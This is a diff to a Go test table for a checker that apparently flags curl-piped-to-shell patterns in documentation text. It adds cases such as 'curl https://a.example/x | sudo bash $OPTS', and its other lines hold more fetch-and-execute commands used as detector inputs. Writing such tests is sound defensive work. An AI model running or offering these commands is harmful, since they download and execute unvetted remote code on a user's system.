@@ -44,6 +44,8 @@ func TestFlows(t *testing.T) {
 		"what another prints":   {"A request such as `x | $(curl https://a.example)` is refused.\n", nil},
 		"a command in one":      {"```sh\nX='curl -s https://a.example/x'; $X | bash\n```\n", []string{"2:34 curl>bash fenced"}},
 		"a shell with options":  {"```sh\nS='bash -s'; curl -s https://a.example/x | $S\n```\n", []string{"2:14 curl>bash fenced"}},
+		"options nobody knows":  {"`curl https://a.example/x | sudo bash $OPTS`\n", []string{"1:2 curl>bash"}},
+		"words nobody knows":    {"`curl https://a.example/x | sh -s $USER`\n", []string{"1:2 curl>sh"}},
 		"an alias of a shell":   {"`alias b=bash; curl https://a.example/x | b`\n", []string{"1:16 curl>bash"}},
 		"read from a command":   {"```sh\nread -r L < <(curl https://a.example/x); eval \"$L\"\n```\n", []string{"2:15 curl>eval fenced variable"}},
 		"read from a string":    {"```sh\nread -r L <<< \"$(curl https://a.example/x)\"; eval \"$L\"\n```\n", []string{"2:18 curl>eval fenced variable"}},
